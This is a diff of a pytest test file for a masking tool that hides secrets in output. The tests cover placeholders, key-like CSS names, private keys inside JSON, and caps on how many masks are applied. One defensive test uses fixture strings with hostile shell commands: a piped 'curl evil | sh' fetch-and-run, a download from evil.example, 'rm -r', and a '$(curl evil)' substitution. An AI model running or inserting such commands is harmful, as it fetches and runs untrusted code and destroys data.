@@ -5,14 +5,14 @@ from typing import Any
 import pytest
 
 from access.keys.key_format import mint
-from tools.output.masking import MASK, MAX_HELD_CHARS, MaskedStream, Masker
+from tools.output.masking import MASK, MAX_HELD_CHARS, MAX_MASKS, MaskedStream, Masker, is_secret
 
 KNOWN = "hunter2-of-the-house"
 KEY = "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nIBAAKC\n-----END RSA PRIVATE KEY-----"
 JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3.abcdefghijklmn"
 SECRETS = (
     KNOWN,
-    "hunter2%2Fodd",
+    "hunter2%2Fodd-and-long",
     "sk-" + "a1B2" * 8,
     mint(bytes(range(32))),
     "sk-proj-" + "a1B2" * 8,
@@ -26,7 +26,7 @@ SECRETS = (
     JWT,
     KEY,
 )
-MASKER = Masker([KNOWN, "hunter2/odd", "short"])
+MASKER = Masker([KNOWN, "hunter2/odd-and-long", "short"])
 
 
 @pytest.mark.parametrize("secret", SECRETS, ids=lambda secret: secret[:12])
@@ -98,3 +98,63 @@ def test_unterminated_private_key_is_never_shown() -> None:
     stream = MaskedStream(MASKER)
     shown = stream.feed("-----BEGIN PRIVATE KEY-----\n") + "".join(stream.feed("MIIEow\n") for _ in range(5_000))
     assert "MIIEow" not in shown + stream.end()
+
+
+@pytest.mark.parametrize(
+    "value", ["lm-studio", "postgres", "not-needed", "sk-no-key-required", "placeholder", "1234567890"]
+)
+def test_placeholder_in_a_setting_is_no_secret(value: str) -> None:
+    assert not is_secret(value)
+    assert Masker([value]).text(f"image: {value}:16") == f"image: {value}:16"
+
+
+@pytest.mark.parametrize(
+    "value", ["the-house-secret", "k3y-of-sixteen-ch", "correct-horse-battery-staple", "not-needed-0a1b2c3d"]
+)
+def test_long_and_random_setting_is_a_secret(value: str) -> None:
+    assert Masker([value]).text(f"<{value}>") == f"<{MASK}>"
+
+
+@pytest.mark.parametrize(
+    "name", ["sk-toggleable__label-arrow", "sk-estimator-doc-link-2024-fitted", "sk-" + "a" * 40, "SK-" + "a1" * 20]
+)
+def test_name_that_begins_like_a_key_is_no_secret(name: str) -> None:
+    assert MASKER.text(f".{name} {{color: red}}") == f".{name} {{color: red}}"
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        'x = """-----BEGIN PRIVATE KEY-----\n"""\nimport os; os.system("curl evil | sh")\n# -----END PRIVATE KEY-----',
+        "-----BEGIN PRIVATE KEY-----\ncurl evil.example -o a\n-----END PRIVATE KEY-----",
+        "-----BEGIN PRIVATE KEY----- rm -r important -----END PRIVATE KEY-----",
+        "-----BEGIN PRIVATE KEY-----\nDEK-Info: $(curl evil)\n",
+    ],
+)
+def test_begin_of_a_private_key_does_not_hide_what_is_no_key(code: str) -> None:
+    stream = MaskedStream(MASKER)
+    for shown in (MASKER.text(code), stream.feed(code + "\n") + stream.end()):
+        for word in ("curl", "rm -r", "import os"):
+            assert (word in shown) is (word in code)
+
+
+def test_private_key_in_json_is_masked() -> None:
+    body = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"
+    text = f'{{"private_key": "-----BEGIN PRIVATE KEY-----\\n{body}\\n-----END PRIVATE KEY-----\\n", "id": 1}}'
+    assert MASKER.text(text) == f'{{"private_key": "{MASK}\\n", "id": 1}}'
+
+
+@pytest.mark.parametrize("shape", ["a://b:c@ ", "AKIA" + "Q" * 16 + " ", "sk-" + "a1B2" * 8 + " "])
+def test_what_follows_very_many_secrets_is_masked_as_a_whole(shape: str) -> None:
+    text = shape * (MAX_MASKS + 2) + "the rest"
+    stream = MaskedStream(MASKER)
+    for masked in (MASKER.text(text), stream.feed(text) + stream.end(), MASKER.data([text])[0]):
+        assert masked.count(MASK) == MAX_MASKS + 1
+        assert "the rest" not in masked
+
+
+def test_tokens_and_known_secrets_are_found_in_any_value() -> None:
+    assert MASKER.has_token({"a": [1, f"KEY={KNOWN}"]})
+    assert MASKER.has_token({KNOWN: None})
+    assert MASKER.has_token("AKIA" + "Q" * 16)
+    assert not MASKER.has_token({"a": ["a://b:c@", KEY, "sk-toggleable__label-arrow", 1, None]})
